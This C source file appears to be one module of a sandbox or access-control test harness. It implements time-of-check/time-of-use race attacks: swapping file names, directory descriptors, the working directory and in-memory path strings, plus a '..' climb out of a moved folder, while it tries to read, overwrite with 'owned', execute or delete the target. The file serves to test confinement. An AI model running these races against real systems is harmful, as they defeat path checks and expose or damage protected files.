/* Races: what was checked is not what is used. Each tries for a number of milliseconds. */
#include "attack.h"

#include <linux/fs.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>

static atomic_int over;
static char shared[4096];
static const char *good, *bad;
static int folders[3];

static void *flip_text(void *unused) {
    /* One changing byte would be enough; whole strings of one length keep it simple. */
    while (!over) {
        memcpy(shared, bad, strlen(bad) + 1);
        memcpy(shared, good, strlen(good) + 1);
    }
    return unused;
}

static void *flip_names(void *unused) {
    while (!over)
        renameat2(AT_FDCWD, good, AT_FDCWD, bad, RENAME_EXCHANGE);
    return unused;
}

static void *flip_folder(void *unused) {
    while (!over) {
        dup3(folders[1], folders[2], 0);
        dup3(folders[0], folders[2], 0);
    }
    return unused;
}

static void *flip_cwd(void *unused) {
    while (!over) {
        (void)!fchdir(folders[1]);
        (void)!fchdir(folders[0]);
    }
    return unused;
}

static int until(long milliseconds, const struct timespec *start) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (now.tv_sec - start->tv_sec) * 1000 + (now.tv_nsec - start->tv_nsec) / 1000000 < milliseconds;
}

/* Opens again and again while the other thread flips. Reads print what does not say "harmless"; writes write TEXT. */
static int hammer(void *(*flip)(void *), int at, const char *name, const char *mode, long milliseconds) {
    pthread_t thread;
    struct timespec start;
    long tries = 0, opened = 0;
    clock_gettime(CLOCK_MONOTONIC, &start);
    if (pthread_create(&thread, NULL, flip, NULL) != 0)
        return failed("thread");
    while (until(milliseconds, &start)) {
        char text[256];
        tries++;
        if (strcmp(mode, "read") == 0) {
            int fd = openat(at, name, O_RDONLY);
            if (fd < 0)
                continue;
            opened++;
            ssize_t count = read(fd, text, sizeof text - 1);
            close(fd);
            if (count > 0) {
                text[count] = 0;
                if (strstr(text, "harmless") == NULL) {
                    fputs(text, stdout);
                    break;
                }
            }
        } else if (strcmp(mode, "write") == 0) {
            int fd = openat(at, name, O_WRONLY | O_CREAT, 0644);
            if (fd < 0)
                continue;
            opened++;
            (void)!write(fd, "owned\n", 6);
            close(fd);
        } else if (strcmp(mode, "exec") == 0) {
            pid_t child = fork();
            if (child == 0) {
                execl(name, name, "which", ".pem", NULL);
                _exit(1);
            }
            int status = 1;
            waitpid(child, &status, 0);
            if (status == 0)
                break;
        } else if (strcmp(mode, "mkdir") == 0)
            opened += mkdirat(at, name, 0755) == 0;
        else
            opened += unlinkat(at, name, 0) == 0;
    }
    over = 1;
    pthread_join(thread, NULL);
    printf("%ld tries, %ld went through\n", tries, opened);
    return 0;
}

/* flip-text MODE GOOD BAD MS: the path changes in memory while the call is looked at. */
static int race_text(int count, char **a) {
    (void)count;
    good = a[1];
    bad = a[2];
    memcpy(shared, good, strlen(good) + 1);
    return hammer(flip_text, AT_FDCWD, shared, a[0], number(a[3]));
}

/* flip-names MODE A B PATH MS: A and B change places on the disk; PATH leads through one of them. */
static int race_names(int count, char **a) {
    (void)count;
    good = a[1];
    bad = a[2];
    return hammer(flip_names, AT_FDCWD, a[3], a[0], number(a[4]));
}

static int two_folders(char **a) {
    folders[0] = open(a[1], O_RDONLY | O_DIRECTORY);
    folders[1] = open(a[2], O_RDONLY | O_DIRECTORY);
    folders[2] = dup(folders[0]);
    return folders[0] >= 0 && folders[1] >= 0;
}

/* flip-folder MODE GOODFOLDER BADFOLDER NAME MS: the folder's descriptor becomes another. */
static int race_folder(int count, char **a) {
    (void)count;
    if (!two_folders(a))
        return failed("folders");
    return hammer(flip_folder, folders[2], a[3], a[0], number(a[4]));
}

/* flip-cwd MODE GOODFOLDER BADFOLDER NAME MS: the working directory, which threads share. */
static int race_cwd(int count, char **a) {
    (void)count;
    if (!two_folders(a) || fchdir(folders[0]) != 0)
        return failed("folders");
    return hammer(flip_cwd, AT_FDCWD, a[3], a[0], number(a[4]));
}

/* swap A B UNTIL: A and B change places until the file UNTIL is there (10 s at most). */
static int swap(int count, char **a) {
    (void)count;
    struct timespec start;
    long swaps = 0;
    clock_gettime(CLOCK_MONOTONIC, &start);
    while (until(10000, &start) && access(a[2], F_OK) != 0) {
        swaps += renameat2(AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) == 0;
        /* Each state for as long as some step of a launch takes. */
        usleep((useconds_t)(swaps * 7919 % 700));
    }
    printf("%ld swaps\n", swaps);
    return 0;
}

/* dotdot FOLDER ELSEWHERE UP NAME MS: stands in FOLDER/a/b while FOLDER/a is moved away, and climbs. */
static int race_dotdot(int count, char **a) {
    (void)count;
    struct timespec start;
    char inner[4096], outer[4096], moved[4096], path[4096];
    snprintf(outer, sizeof outer, "%s/a", a[0]);
    snprintf(inner, sizeof inner, "%s/a/b", a[0]);
    snprintf(moved, sizeof moved, "%s/moved", a[1]);
    mkdir(outer, 0755);
    mkdir(inner, 0755);
    int fd = open(inner, O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return failed("folder");
    snprintf(path, sizeof path, "%s%s", a[2], a[3]);
    clock_gettime(CLOCK_MONOTONIC, &start);
    while (until(number(a[4]), &start)) {
        rename(outer, moved);
        int found = openat(fd, path, O_RDONLY);
        if (found >= 0)
            return spill(found);
        rename(moved, outer);
    }
    errno = ENOENT;
    return failed("climb");
}

const struct command RACE_COMMANDS[] = {
    { "flip-text", 4, race_text }, { "flip-names", 5, race_names }, { "flip-folder", 5, race_folder },
    { "flip-cwd", 5, race_cwd },   { "swap", 3, swap },             { "dotdot", 5, race_dotdot },
    { NULL, 0, NULL },
};
